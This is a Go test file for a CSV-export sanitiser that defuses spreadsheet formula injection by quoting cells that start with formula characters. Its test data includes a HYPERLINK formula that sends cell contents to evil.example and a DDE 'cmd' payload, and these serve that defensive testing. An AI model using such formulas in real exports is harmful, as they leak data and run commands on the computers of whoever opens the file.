package csvsafe

import (
	"encoding/csv"
	"errors"
	"slices"
	"strings"
	"testing"
)

func TestCell(t *testing.T) {
	tests := []struct{ in, want string }{
		{"", ""},
		{"ann@example.com", "ann@example.com"},
		{"=1+2@example.com", "'=1+2@example.com"},
		{"=HYPERLINK(\"https://evil.example/?\"&A1)", "'=HYPERLINK(\"https://evil.example/?\"&A1)"},
		{"+1 555 0100", "'+1 555 0100"},
		{"-2+3", "'-2+3"},
		{"@SUM(A1:A9)", "'@SUM(A1:A9)"},
		{"\t=1+1", "'\t=1+1"},
		{"\r=1+1", "'\r=1+1"},
		{"'already quoted", "'already quoted"},
		// Only the first character counts: a formula sign later in the text is harmless.
		{"ann=1@example.com", "ann=1@example.com"},
		{" =1+1", " =1+1"},
		{"2026-05-04T09:30:00Z", "2026-05-04T09:30:00Z"},
		{"élodie@example.com", "élodie@example.com"},
	}
	for _, tt := range tests {
		if got := Cell(tt.in); got != tt.want {
			t.Errorf("Cell(%q) = %q, want %q", tt.in, got, tt.want)
		}
	}
}

// TestWriter writes records with every kind of awkward cell and reads the file back with
// encoding/csv: each cell comes back as Cell made it, quotes, commas and line breaks included.
func TestWriter(t *testing.T) {
	records := [][]string{
		{"email", "joined_at", "consent_version"},
		{"=cmd|' /C calc'!A0@example.com", "2026-05-04T09:30:00Z", "v1"},
		{`"quoted", with a comma`, "line one\nline two", "-1"},
		{"@home", "\tindented", "plain"},
	}
	var b strings.Builder
	w := NewWriter(&b)
	for _, r := range records {
		before := slices.Clone(r)
		if err := w.Write(r); err != nil {
			t.Fatal(err)
		}
		if !slices.Equal(r, before) {
			t.Errorf("Write changed its record to %q", r)
		}
	}
	w.Flush()
	if err := w.Error(); err != nil {
		t.Fatal(err)
	}
	want := "email,joined_at,consent_version\n" +
		"'=cmd|' /C calc'!A0@example.com,2026-05-04T09:30:00Z,v1\n" +
		`"""quoted"", with a comma","line one` + "\n" + `line two",'-1` + "\n" +
		"'@home,'\tindented,plain\n"
	if got := b.String(); got != want {
		t.Errorf("file =\n%q\nwant\n%q", got, want)
	}
	got, err := csv.NewReader(strings.NewReader(b.String())).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	for i, r := range records {
		for j, cell := range r {
			if got[i][j] != Cell(cell) {
				t.Errorf("cell %d,%d read back as %q, want %q", i, j, got[i][j], Cell(cell))
			}
		}
	}
}

type failingWriter struct{}

func (failingWriter) Write([]byte) (int, error) { return 0, errors.New("disk full") }

func TestWriterReportsFailures(t *testing.T) {
	w := NewWriter(failingWriter{})
	_ = w.Write([]string{"a"})
	w.Flush()
	if w.Error() == nil {
		t.Error("Error() = nil after a failed write, want the failure")
	}
}
